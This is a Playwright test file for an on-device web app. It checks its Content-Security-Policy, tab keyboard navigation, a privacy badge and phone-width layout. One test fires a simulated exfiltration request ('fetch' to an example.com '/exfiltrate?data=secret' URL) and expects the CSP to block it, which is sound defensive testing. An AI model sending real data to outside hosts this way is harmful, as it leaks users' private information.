import { expect, test } from '@playwright/test';

test.describe('app shell', () => {
  test('shows the tabs, the privacy badge and a CSP that only allows the page and model hosts', async ({ page }) => {
    const response = await page.goto('/');
    const header = response?.headers()['content-security-policy'] ?? '';
    expect(header).toContain("connect-src 'self' https://huggingface.co");
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    // The header adds what a <meta> tag cannot carry.
    expect(header).toBe(`${meta}; frame-ancestors 'none'`);
    expect(meta).not.toContain('%VITE_CSP%');

    const nav = page.getByRole('navigation', { name: 'Pages' });
    for (const name of ['Classify', 'Memories', 'Chat', 'Models', 'Benchmark']) {
      await expect(nav.getByRole('link', { name })).toBeVisible();
    }
    await expect(page.getByTestId('privacy-badge')).toHaveText(/On-device · 0 network requests with your data/);
  });

  test('tabs are reachable by keyboard and move focus to the page', async ({ page }) => {
    await page.goto('/');
    await page.getByRole('link', { name: 'Memories' }).focus();
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(/#\/memories$/);
    await expect(page.getByRole('heading', { level: 1, name: 'Memories' })).toBeVisible();
    await expect(page.locator('main')).toBeFocused();
  });

  test('the CSP blocks a request to another host, and the badge counts it', async ({ page }) => {
    await page.goto('/');
    const blocked = await page.evaluate(async () => {
      try { await fetch('https://example.com/exfiltrate?data=secret'); return false; } catch { return true; }
    });
    expect(blocked).toBe(true);
    await page.getByTestId('privacy-badge').click();
    await expect(page.getByTestId('tally-blocked')).toHaveText('1');
    await expect(page.getByTestId('tally-other')).toHaveText('0');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('region', { name: 'Privacy details' })).toBeHidden();
  });

  test('works at phone width: tabs scroll, the privacy details fit the screen', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto('/#/classify');
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(390);
    await page.getByTestId('privacy-badge').click();
    const box = await page.getByRole('region', { name: 'Privacy details' }).boundingBox();
    expect(box!.x).toBeGreaterThanOrEqual(0);
    expect(box!.x + box!.width).toBeLessThanOrEqual(390);
  });
});
